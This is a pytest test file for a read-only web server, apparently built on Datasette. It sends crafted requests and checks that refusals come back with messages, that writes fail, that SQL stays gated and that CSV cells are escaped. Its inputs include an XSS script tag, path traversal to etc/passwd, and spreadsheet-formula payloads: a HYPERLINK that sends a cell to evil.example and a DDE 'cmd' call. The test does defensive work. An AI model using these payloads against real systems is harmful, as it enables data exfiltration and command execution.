"""Crafted requests against a real ``quidixit serve`` on loopback (issue 11): hostile
values in every parameter of every page, crafted paths and write methods. Nothing
answers 500; refusals are 400/403/404/405 with a message. Also: arbitrary SQL is
off unless --allow-sql, and CSV cells are safe for spreadsheets."""

from __future__ import annotations

import csv
import html
import http.client
import io
import sqlite3
import subprocess
import sys
import time
from urllib.parse import urlsplit

import pytest

pytest.importorskip("datasette", reason="the UI needs `pip install datasette`")

from quidixit.model import Analysis, Article, Content, Cue, Speaker, Statement  # noqa: E402
from quidixit.store import Store  # noqa: E402

from ._server import free_port, running_server  # noqa: E402

VALUES = ["%00", "a%00b", "99999999999999999999", "-1", "0", "1e308", "%ff", "%C0%AF", "%", "%25", "'", "%22",
          "*", "NOT", "(", "%3Cscript%3Ealert(1)%3C/script%3E", "x" * 3000, "..%2F..%2Fetc%2Fpasswd", "%E2%80%AE", "~",
          "+", ""]
OUR_PAGES = ["/", "/search", "/search.json", "/search.csv", "/articles/art-lemonde-1", "/articles/art-lemonde-1.json",
             "/speakers", "/speakers.json", "/speakers/{sid}", "/speakers/{sid}.csv", "/outlets", "/outlets/lemonde.fr",
             "/outlets/lemonde.fr.json"]
OUR_PARAMS = ["q", "kind", "speaker", "speaker_type", "outlet", "from", "to", "_page", "_format"]
DATASETTE_PAGES = ["/corpus", "/corpus/statements", "/corpus/statements.json", "/corpus/statements.csv"]
DATASETTE_PARAMS = ["_size", "_sort", "_sort_desc", "_facet", "_search", "_next", "kind__gt", "_col", "sql", "_where",
                    "_shape", "_labels"]
PATHS = ["/../x", "/%2e%2e/x", "/corpus/../../etc/passwd", "/-/static/../../x", "/-/qx/../../x", "/articles/%00",
         "/articles/..", "/articles/%ff", "/speakers/%00.json", "/outlets/%00", "/outlets/%ff.csv", "//", "/%00",
         "/search/%00", "/corpus/statements/%00", "/corpus/%00", "/-/%00", "/articles/x%00.json", "/" + "a" * 5000]
WRITES = [("POST", "/corpus/statements/-/insert"), ("POST", "/corpus/-/create"), ("POST", "/corpus/statements/-/drop"),
          ("POST", "/corpus/statements/-/upsert"), ("POST", "/corpus/statements/x/-/update"),
          ("POST", "/corpus/statements/x/-/delete"), ("POST", "/search"), ("PUT", "/search"), ("DELETE", "/corpus"),
          ("PATCH", "/articles/art-lemonde-1"), ("POST", "/-/permissions"), ("POST", "/-/messages")]
ALLOWED = {200, 302, 400, 403, 404, 405}


def request(base: str, method: str, target: str, body: bytes | None = None) -> tuple[int, str, dict]:
    """One request with the target sent exactly as given (no client-side normalisation)."""
    u = urlsplit(base)
    conn = http.client.HTTPConnection(u.hostname, u.port, timeout=30)
    try:
        headers = {"content-type": "application/json"} if body is not None else {}
        conn.putrequest(method, target, skip_accept_encoding=True)
        for k, v in headers.items():
            conn.putheader(k, v)
        conn.putheader("content-length", str(len(body or b"")))
        conn.endheaders(body)
        r = conn.getresponse()
        return r.status, r.read().decode("utf-8", "replace"), dict(r.getheaders())
    finally:
        conn.close()


@pytest.fixture(scope="module")
def server(store_path):
    with running_server(store_path) as base:
        yield base


@pytest.fixture(scope="module")
def sid(store_path):
    with sqlite3.connect(store_path) as c:
        return c.execute("SELECT id FROM speakers WHERE name = 'Élisabeth Borne'").fetchone()[0]


def _targets(sid: str) -> list[str]:
    out = []
    for page in OUR_PAGES:
        for param in OUR_PARAMS:
            out += [f"{page.format(sid=sid)}?{param}={v}" for v in VALUES]
    for page in DATASETTE_PAGES:
        for param in DATASETTE_PARAMS:
            out += [f"{page}?{param}={v}" for v in VALUES]
    return out + PATHS


def test_no_crafted_request_is_a_500(server, sid):
    bad = []
    for target in _targets(sid):
        status, body, _ = request(server, "GET", target)
        if status not in ALLOWED or (status >= 400 and not body.strip()):
            bad.append((status, target[:120], body[:200]))
    assert bad == []


def test_refusals_say_why(server):
    cases = {
        "/search?_page=99999999999999999999": (400, "Bad _page '99999999999999999999': a page number is a whole number from 1"),
        "/search.json?_page=abc": (400, "Bad _page 'abc'"),
        "/search?q=%00": (400, "Bad request: a parameter holds a NUL character (%00)."),
        "/corpus/statements?_facet=%00": (400, "NUL character"),
        "/../x": (400, "Bad request: '..' is not allowed in a path."),
        "/corpus?sql=select+1": (403, "Arbitrary SQL (?sql=, _where=) is off on this server."),
        "/corpus.json?sql=select+1": (403, "`quidixit serve --allow-sql`"),
    }
    for target, (status, message) in cases.items():
        got, body, _ = request(server, "GET", target)
        assert (got, message in html.unescape(body)) == (status, True), (target, got, body[:300])


def test_writes_are_405_read_only(server, store_path):
    before = store_path.read_bytes()
    for method, target in WRITES:
        status, body, headers = request(server, method, target, b'{"row": {"id": "x"}, "rows": [{"id": "x"}]}')
        assert status == 405, (method, target, status, body[:200])
        assert "this server is read-only" in body and headers.get("allow") == "GET, HEAD"
    assert store_path.read_bytes() == before


def test_sql_is_allowed_with_allow_sql(store_path):
    port = free_port()
    cmd = [sys.executable, "-c", "from quidixit.cli import main; main()", "serve", "--db", str(store_path),
           "--port", str(port), "--allow-sql"]
    proc = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 30
        while True:
            try:
                status, body, _ = request(f"http://127.0.0.1:{port}", "GET", "/corpus.json?sql=select+count(*)+as+n+from+articles")
                break
            except OSError:
                if time.monotonic() > deadline or proc.poll() is not None:
                    raise
                time.sleep(0.2)
        assert status == 200 and '"rows": [[3]]' in body
    finally:
        proc.terminate()
        proc.wait(10)


# --------------------------------------------------------------------------- CSV for spreadsheets

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1, \"clic\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd"]


def _formula_store(path):
    text = " ".join(f"« {f} », a dit Jean Dupont." for f in FORMULAS)
    statements, at = [], 0
    for f in FORMULAS:
        start = text.index(f, at)
        cue = text.index("a dit", start)
        who = text.index("Jean Dupont", start)
        statements.append(Statement("direct", Content(start, start + len(f), f), Cue(cue, cue + 5, "a dit", "dire"),
                                    Speaker(who, who + 11, "Jean Dupont", "=Jean Dupont", "person", "@maire")))
        at = start + len(f)
    with Store(path) as store:
        store.write_batch([Analysis(Article(text, id="f1", title="=1+1", outlet="-outlet", published="2024-01-01"),
                                    tuple(statements))], store.start_run())
    return path


def test_csv_cells_cannot_run_as_formulas(tmp_path):
    db = _formula_store(tmp_path / "f.db")
    with running_server(db) as base:
        bodies = {t: request(base, "GET", t)[1] for t in ("/search.csv", "/articles/f1.csv", "/f/statements.csv",
                                                          "/f/articles.csv?_size=max", "/f/statements.csv?_dl=1")}
    from click.testing import CliRunner

    from quidixit.cli import main

    bodies["search --format csv"] = CliRunner().invoke(main, ["search", "--db", str(db), "--format", "csv"]).output
    out = tmp_path / "export.csv"
    assert CliRunner().invoke(main, ["export", "--db", str(db), "--format", "csv", "-o", str(out)]).exit_code == 0
    bodies["export --format csv"] = out.read_text(encoding="utf-8")
    for where, body in bodies.items():
        cells = [c for row in csv.reader(io.StringIO(body)) for c in row]
        assert [c for c in cells if c and c[0] in "=+-@"] == [], where
        shown = "'=1+1" if "articles.csv" in where else "'=HYPERLINK(\"http://evil.example/?\"&A1, \"clic\")"
        assert shown in cells, (where, cells[:40])
